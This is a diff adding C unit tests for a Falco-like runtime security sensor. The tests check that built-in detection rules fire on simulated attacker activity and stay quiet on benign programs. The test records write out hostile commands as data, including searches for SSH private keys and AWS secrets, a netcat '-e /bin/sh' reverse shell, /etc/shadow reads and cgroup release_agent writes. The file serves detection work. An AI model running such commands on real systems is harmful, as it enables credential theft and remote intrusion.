@@ -4,6 +4,7 @@
 #include <stdio.h>
 #include <string.h>
 
+#include "core/embedded.h"
 #include "runtime/bpf/sensor_abi.h"
 #include "runtime/rules/rules.h"
 #include "runtime/sensor/decode.h"
@@ -312,6 +313,259 @@ static void test_network_and_others(void)
     CHECK_STR(arg(&ev, "flags"), "CLONE_NEWNS|CLONE_NEWUSER");
 }
 
+/* A syscall record of pid (parent 1). */
+static struct sensor_syscall sys_rec(unsigned pid, const char *comm, long id, long ret)
+{
+    struct sensor_syscall sc;
+    memset(&sc, 0, sizeof sc);
+    hdr(&sc.h, SENSOR_EV_SYSCALL, pid, 1, comm);
+    sc.id = id;
+    sc.ret = ret;
+    return sc;
+}
+
+/* sendto and sendmsg: the destination, the socket's own end, and Falco's
+ * fd.connected / fd.name_changed as the outbound macro of its rules uses them */
+static void test_sendto_sendmsg(void)
+{
+    comb_event ev;
+    /* sendto(5, buf, 64, 0, 203.0.113.9:53) on an unconnected UDP socket
+     * bound to 10.1.2.3:5353 */
+    struct sensor_syscall sc = sys_rec(4242, "dig", 44, 64);
+    sc.args[0] = 5;
+    sc.args[2] = 64;
+    unsigned char sa4[16] = { 2, 0, 0, 53, 203, 0, 113, 9 };
+    memcpy(sc.addr, sa4, sizeof sa4);
+    sc.addr_len = sizeof sa4;
+    sc.fd_family = 2;
+    sc.fd_proto = 17;
+    sc.lport = 5353;
+    sc.sk_state = 7; /* TCP_CLOSE: not connected */
+    unsigned char l4[4] = { 10, 1, 2, 3 };
+    memcpy(sc.laddr, l4, 4);
+    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
+    CHECK_STR(ev.type, "sendto");
+    CHECK_INT(ev.fd.num, 5);
+    CHECK_STR(arg(&ev, "size"), "64");
+    CHECK_STR(arg(&ev, "addr"), "203.0.113.9:53");
+    CHECK_STR(ev.fd.l4proto, "udp");
+    CHECK_INT(ev.fd.connected, 0);
+    CHECK_INT(ev.fd.name_changed, 1);
+    CHECK_INT(cond("evt.type in (sendto, sendmsg) and fd.l4proto != tcp and fd.connected = false "
+                   "and fd.name_changed = true and fd.typechar = 4 and fd.sport = 53 and "
+                   "fd.name = \"10.1.2.3:5353->203.0.113.9:53\" and not fd.snet in (\"10.0.0.0/8\")",
+                   &ev), 1);
+
+    /* sendmsg(6, {msg_name = NULL}) on a connected UDP socket: no destination
+     * of its own, the name did not change */
+    sc = sys_rec(4242, "dig", 46, 10);
+    sc.args[0] = 6;
+    sc.fd_family = 10;
+    sc.fd_proto = 17;
+    sc.sk_state = 1; /* TCP_ESTABLISHED */
+    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
+    CHECK_STR(ev.type, "sendmsg");
+    CHECK_STR(ev.fd.type, "ipv6");
+    CHECK_INT(ev.fd.connected, 1);
+    CHECK_INT(ev.fd.name_changed, 0);
+    CHECK(arg(&ev, "size") == NULL);
+    CHECK_INT(cond("fd.connected = false", &ev), 0);
+
+    /* a socket the kernel side could not look at (sk_state 0): unknown */
+    sc.sk_state = 0;
+    sc.fd_family = 0;
+    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
+    CHECK_INT(ev.fd.connected, -1);
+    CHECK_INT(cond("fd.connected = false", &ev), 0);
+}
+
+/* comb's built-in rules (the embedded file `comb watch` uses) on decoded
+ * records: each behaviour fires its rule first (the first match is the one
+ * `comb watch` reports), near misses and benign programs fire nothing. */
+static comb_ruleset *builtin;
+
+static int first_match(void *ud, const comb_rule *rule, const comb_event *ev)
+{
+    (void)ev;
+    *(const char **)ud = comb_rule_name(rule);
+    return 1;
+}
+
+static const char *fired(const comb_event *ev)
+{
+    const char *name = NULL;
+    comb_ruleset_eval(builtin, ev, first_match, &name);
+    return name ? name : "(none)";
+}
+
+#define CTR "libpod-" ID ".scope", "machine.slice"
+#define HOST "session-1.scope", "user-0.slice"
+
+/* exec of comm with argv (NUL-separated, argv_len bytes), tty 0; the rule it fires */
+static const char *exec_fires(unsigned pid, unsigned ppid, const char *comm, const char *argv,
+                              size_t argv_len, int in_ctr, unsigned flags)
+{
+    comb_event ev;
+    if (in_ctr)
+        exec_rec(pid, ppid, comm, argv, argv_len, CTR);
+    else
+        exec_rec(pid, ppid, comm, argv, argv_len, HOST);
+    ex.tty = 0;
+    ex.flags = flags;
+    if (comb_decode(&dec, &ex, sizeof ex, &ev) != 1)
+        return "(not decoded)";
+    return fired(&ev);
+}
+
+static const char *sys_fires(struct sensor_syscall *sc)
+{
+    comb_event ev;
+    if (comb_decode(&dec, sc, sizeof *sc, &ev) != 1)
+        return "(not decoded)";
+    return fired(&ev);
+}
+
+static void set_str(struct sensor_syscall *sc, int i, const char *v)
+{
+    snprintf(sc->str[i], SENSOR_STR_LEN, "%s", v);
+    sc->str_len[i] = (unsigned short)(strlen(v) + 1);
+}
+
+static void test_builtin_rules(void)
+{
+    const comb_embedded_file *f = comb_embedded_find("runtime/comb_rules.yaml");
+    comb_err err;
+    CHECK(f != NULL);
+    if (!f || comb_ruleset_new(&builtin, &err))
+        return;
+    CHECK_INT(comb_rules_load_buffer(builtin, "comb_rules.yaml", f->data, f->len, &err), COMB_OK);
+    CHECK_INT(comb_ruleset_compile(builtin, &err), COMB_OK);
+    size_t nissues = 0;
+    comb_ruleset_issues(builtin, &nissues);
+    CHECK_INT(nissues, 0); /* every rule runs, each restricted to its event types */
+
+#define ARGV(s) s, sizeof s
+    CHECK_STR(exec_fires(900, 1, "find", ARGV("find\0/\0-name\0id_rsa"), 1, 0), "Search for private keys");
+    CHECK_STR(exec_fires(901, 1, "grep", ARGV("grep\0-r\0BEGIN RSA PRIVATE\0/"), 0, 0),
+              "Search for private keys");
+    CHECK_STR(exec_fires(902, 1, "grep", ARGV("grep\0-ri\0aws_secret_access_key\0/"), 1, 0),
+              "Search for cloud credentials");
+    CHECK_STR(exec_fires(903, 1, "shred", ARGV("shred\0-u\0/tmp/x"), 1, 0),
+              "Data wiping program executed");
+    CHECK_STR(exec_fires(904, 1, "sh", ARGV("sh\0-c\0/dev/shm/x.sh"), 1, 0),
+              "Program executed from /dev/shm");
+    CHECK_STR(exec_fires(905, 1, "dropped", ARGV("dropped"), 1, SENSOR_EXEC_UPPER),
+              "Executable not in the container image");
+    CHECK_STR(exec_fires(906, 1, "dropped", ARGV("dropped"), 0, SENSOR_EXEC_UPPER), "(none)");
+    CHECK_STR(exec_fires(907, 1, "memfd:p", ARGV("p"), 1, SENSOR_EXEC_MEMFD | SENSOR_EXEC_UPPER),
+              "Program executed from memory");
+    CHECK_STR(exec_fires(908, 1, "nc", ARGV("nc\0-e\0/bin/sh\0host\0443"), 1, 0),
+              "Netcat with command execution");
+    /* a shell below httpd: the web server's child runs a CGI that runs sh */
+    CHECK_STR(exec_fires(910, 1, "httpd", ARGV("httpd\0-f"), 1, 0), "(none)");
+    struct sensor_fork fk;
+    comb_event ev;
+    memset(&fk, 0, sizeof fk);
+    hdr(&fk.h, SENSOR_EV_FORK, 910, 1, "httpd");
+    fk.child_tgid = 911;
+    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
+    CHECK_STR(exec_fires(911, 910, "run.cgi", ARGV("/bin/sh\0/www/run.cgi"), 1, 0), "(none)");
+    hdr(&fk.h, SENSOR_EV_FORK, 911, 910, "run.cgi");
+    fk.child_tgid = 912;
+    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
+    CHECK_STR(exec_fires(912, 911, "sh", ARGV("sh\0-c\0id"), 1, 0), "Shell started by a server");
+    /* npm runs its scripts with sh below node: not a server */
+    CHECK_STR(exec_fires(915, 1, "node", ARGV("node\0/usr/bin/npm\0run\0build"), 0, 0), "(none)");
+    hdr(&fk.h, SENSOR_EV_FORK, 915, 1, "node");
+    fk.child_tgid = 916;
+    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
+    CHECK_STR(exec_fires(916, 915, "sh", ARGV("sh\0-c\0tsc"), 0, 0), "(none)");
+    /* benign programs */
+    CHECK_STR(exec_fires(920, 1, "gcc", ARGV("gcc\0-O2\0-c\0x.c"), 0, 0), "(none)");
+    CHECK_STR(exec_fires(921, 920, "cc1", ARGV("/usr/libexec/gcc/cc1\0x.c"), 0, 0), "(none)");
+    CHECK_STR(exec_fires(922, 1, "dpkg", ARGV("dpkg\0-l"), 0, 0), "(none)");
+    CHECK_STR(exec_fires(923, 1, "grep", ARGV("grep\0-r\0password\0/etc"), 1, 0), "(none)");
+    CHECK_STR(exec_fires(924, 1, "find", ARGV("find\0/\0-name\0*.c"), 1, 0), "(none)");
+
+    /* syscalls, from a process in a container */
+    CHECK_STR(exec_fires(930, 1, "sh", ARGV("sh"), 1, 0), "(none)");
+    struct sensor_syscall sc = sys_rec(930, "sh", 257, 3); /* openat O_WRONLY|O_CREAT|O_TRUNC */
+    sc.args[0] = (unsigned long long)-100;
+    sc.args[2] = 01 | 0100 | 01000;
+    set_str(&sc, 0, "/var/log/syslog");
+    CHECK_STR(sys_fires(&sc), "Log file cleared");
+    sc.args[2] = 01 | 02000; /* O_APPEND: logging, not clearing */
+    CHECK_STR(sys_fires(&sc), "(none)");
+    sc.args[2] = 0;
+    set_str(&sc, 0, "/var/../etc/../etc/shadow");
+    CHECK_STR(sys_fires(&sc), "Sensitive file read through a path traversal");
+    set_str(&sc, 0, "/etc/shadow");
+    CHECK_STR(sys_fires(&sc), "Sensitive file opened for reading");
+    set_str(&sc, 0, "/etc/hostname");
+    CHECK_STR(sys_fires(&sc), "(none)");
+    sc.args[2] = 01;
+    set_str(&sc, 0, "/sys/fs/cgroup/x/release_agent");
+    CHECK_STR(sys_fires(&sc), "(none)"); /* without CAP_SYS_ADMIN */
+    sc.h.cap_effective = 1ull << 21;
+    CHECK_STR(sys_fires(&sc), "Cgroup release_agent opened for writing in a container");
+
+    sc = sys_rec(930, "sh", 266, 0); /* symlinkat("/etc/shadow", AT_FDCWD, "l") */
+    set_str(&sc, 0, "/etc/shadow");
+    set_str(&sc, 1, "l");
+    CHECK_STR(sys_fires(&sc), "Symlink to a sensitive file");
+    set_str(&sc, 0, "/etc/hostname");
+    CHECK_STR(sys_fires(&sc), "(none)");
+    sc = sys_rec(930, "sh", 265, -18); /* linkat: EXDEV, the attempt counts */
+    set_str(&sc, 0, "/etc/shadow");
+    set_str(&sc, 1, "/tmp/h");
+    CHECK_STR(sys_fires(&sc), "Hardlink to a sensitive file");
+
+    sc = sys_rec(930, "sh", 101, 0); /* ptrace(PTRACE_TRACEME) */
+    CHECK_STR(sys_fires(&sc), "Anti-debugging with ptrace");
+    sc.args[0] = 16; /* PTRACE_ATTACH */
+    CHECK_STR(sys_fires(&sc), "Process attached with ptrace");
+
+    sc = sys_rec(930, "sh", 313, -9); /* finit_module with CAP_SYS_MODULE (EBADF) */
+    sc.h.cap_effective = 1ull << 16;
+    CHECK_STR(sys_fires(&sc), "Kernel module load from a container");
+    sc.h.cap_effective = 0;
+    CHECK_STR(sys_fires(&sc), "(none)");
+
+    sc = sys_rec(930, "sh", 41, -1); /* socket(AF_PACKET): EPERM, the attempt counts */
+    sc.args[0] = 17;
+    CHECK_STR(sys_fires(&sc), "Packet socket created");
+
+    /* ssh to 198.51.100.2:443, then to port 22 */
+    CHECK_STR(exec_fires(940, 1, "ssh", ARGV("ssh\0-p\0443\0h"), 1, 0), "(none)");
+    sc = sys_rec(940, "ssh", 42, 0);
+    unsigned char sa[16] = { 2, 0, 443 >> 8, 443 & 0xff, 198, 51, 100, 2 };
+    memcpy(sc.addr, sa, sizeof sa);
+    sc.addr_len = sizeof sa;
+    sc.fd_family = 2;
+    sc.fd_proto = 6;
+    CHECK_STR(sys_fires(&sc), "SSH connection to a non-standard port");
+    sc.addr[2] = 0;
+    sc.addr[3] = 22;
+    CHECK_STR(sys_fires(&sc), "(none)");
+    sc.addr[2] = 6443 >> 8; /* the Kubernetes API's port, from a container */
+    sc.addr[3] = 6443 & 0xff;
+    CHECK_STR(sys_fires(&sc), "Connection to the Kubernetes API from a container");
+
+    /* dup2(sock, 0): nc's reverse shell fires, httpd serving a request does not */
+    sc = sys_rec(908, "nc", 33, 0);
+    sc.args[1] = 0;
+    sc.fd_family = 2;
+    sc.fd_proto = 6;
+    CHECK_STR(sys_fires(&sc), "Standard input or output redirected to a socket in a container");
+    sc = sys_rec(910, "httpd", 33, 1);
+    sc.args[1] = 1;
+    sc.fd_family = 2;
+    sc.fd_proto = 6;
+    CHECK_STR(sys_fires(&sc), "(none)");
+#undef ARGV
+    comb_ruleset_free(builtin);
+}
+
 static void test_hostile_records(void)
 {
     comb_event ev;
@@ -427,6 +681,8 @@ int main(void)
     RUN(test_cwd);
     RUN(test_memfd_exec_and_ancestry);
     RUN(test_network_and_others);
+    RUN(test_sendto_sendmsg);
+    RUN(test_builtin_rules);
     RUN(test_hostile_records);
     RUN(test_random_records);
     comb_ruleset_free(rs);
